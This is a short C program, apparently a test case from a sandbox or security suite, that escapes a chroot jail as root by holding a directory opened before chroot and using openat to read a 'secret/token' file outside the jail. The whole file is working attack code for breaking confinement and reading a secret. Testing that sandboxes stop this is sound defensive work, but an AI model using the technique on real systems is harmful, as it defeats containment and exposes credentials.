/* Needs: root. Out of a chroot by a directory that was open before. */
#include "../attack.h"
int main(void)
{
	int before = open(folder_of(folder_of(SECRET)), O_PATH);
	mkdir("jail", 0700);
	return chroot("jail") < 0 ? 1 : show(openat(before, "secret/token", O_RDONLY));
}
